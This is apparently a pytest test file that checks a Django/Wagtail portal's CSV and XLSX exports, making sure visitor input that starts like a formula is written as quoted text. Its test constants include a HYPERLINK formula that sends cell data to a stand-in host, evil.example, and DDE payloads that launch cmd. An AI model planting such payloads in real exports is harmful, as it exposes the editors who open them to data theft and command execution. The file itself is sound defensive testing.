"""What visitors type reaches the editors' CSV exports as text: no cell runs as a formula in a spreadsheet.
A cell starting like a formula is written with a quote before it (OWASP's advice); everything else is
written as it was."""

import io

import openpyxl
import pytest

from portal.challenges.models import ChallengePage
from portal.spreadsheets import neutralise
from tests.contributions_helpers import idea, needs
from tests.exports_helpers import csv_rows
from tests.factories import ChallengeProposalFactory, IdeaFormPageFactory, MentorProfileFactory, MentorRequestFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2;"Voir le dossier")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
NUMBER_LIKE = "-2+3+cmd|' /C calc'!A0"
PHONE = "+33 6 12 34 56 78"


def csv_cells(response):
    return [cell for row in csv_rows(response) for cell in row]


def assert_written_as_text(cells, *values):
    for value in values:
        assert "'" + value in cells, value
        assert value not in cells, value


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\n=1+1", "'\n=1+1"),
        (PHONE, "'" + PHONE),
        ("Métropole de Lyon", "Métropole de Lyon"),
        ("Données = confiance", "Données = confiance"),
        ("l'open data", "l'open data"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_a_cell_starting_like_a_formula_gets_a_quote_and_nothing_else_changes(value, cell):
    assert neutralise(value) == cell


def test_the_mentors_export(editor_client):
    MentorProfileFactory(full_name=HYPERLINK, organisation=PHONE, headline=DDE, capacity=3)
    cells = csv_cells(editor_client.get("/admin/mentors/mentorprofile/", {"export": "csv"}))
    assert_written_as_text(cells, HYPERLINK, PHONE)
    assert "3" in cells  # a number stays a number


def test_the_requests_export(editor_client):
    MentorRequestFactory(requester_name=HYPERLINK, organisation=DDE, challenge_text=NUMBER_LIKE)
    cells = csv_cells(editor_client.get("/admin/mentorships/mentorrequest/", {"export": "csv"}))
    assert_written_as_text(cells, HYPERLINK, DDE, NUMBER_LIKE)


def test_the_challenge_proposals_export(editor_client):
    ChallengeProposalFactory(title=HYPERLINK, name=NUMBER_LIKE, organisation="Métropole exemple")
    cells = csv_cells(editor_client.get("/admin/contributions/challengeproposal/", {"export": "csv"}))
    assert_written_as_text(cells, HYPERLINK, NUMBER_LIKE)
    assert "Métropole exemple" in cells


def test_the_needs_survey_export(client, survey, editor_client):
    client.post(survey.url, needs(comment=HYPERLINK))
    cells = csv_cells(editor_client.get("/admin/contributions/needssurveyresponse/", {"export": "csv"}))
    assert_written_as_text(cells, HYPERLINK)


def test_the_idea_submissions_export_headings_included(client, home, editor_client):
    ideas = IdeaFormPageFactory(
        parent=home,
        fields=[
            {"label": "Votre idée", "field_type": "multiline", "required": True},
            {"label": "+ d’infos", "field_type": "singleline", "required": False},
        ],
    )
    client.post(ideas.url, idea(votre_idee=HYPERLINK, dinfos=PHONE))
    cells = csv_cells(editor_client.get(f"/admin/forms/submissions/{ideas.pk}/", {"export": "csv"}))
    assert_written_as_text(cells, HYPERLINK, PHONE, "+ d’infos")
    assert "Votre idée" in cells


def test_wagtails_site_history_export(catalogue, editor_client):
    """A proposal's title becomes a draft challenge's title, listed in Wagtail's own site history."""
    proposal = ChallengeProposalFactory(title=HYPERLINK)
    editor_client.post(f"/admin/contributions/challengeproposal/action/{proposal.pk}/", {"action": "convert"})
    cells = csv_cells(editor_client.get("/admin/reports/site-history/", {"export": "csv"}))
    assert_written_as_text(cells, HYPERLINK)


def test_wagtails_locked_and_aging_pages_exports(catalogue, editor_client, editor):
    challenge = ChallengePage.objects.get()
    challenge.title = HYPERLINK
    challenge.locked, challenge.locked_by = True, editor
    challenge.save_revision().publish()
    for url in ("/admin/reports/locked/", "/admin/reports/aging-pages/"):
        cells = csv_cells(editor_client.get(url, {"export": "csv"}))
        assert_written_as_text(cells, HYPERLINK)


def test_the_xlsx_exports_keep_formula_like_values_as_plain_text(editor_client):
    MentorRequestFactory(requester_name=HYPERLINK)
    response = editor_client.get("/admin/mentorships/mentorrequest/", {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    [cell] = [cell for row in sheet.iter_rows() for cell in row if cell.value == HYPERLINK]
    assert cell.data_type == "s"
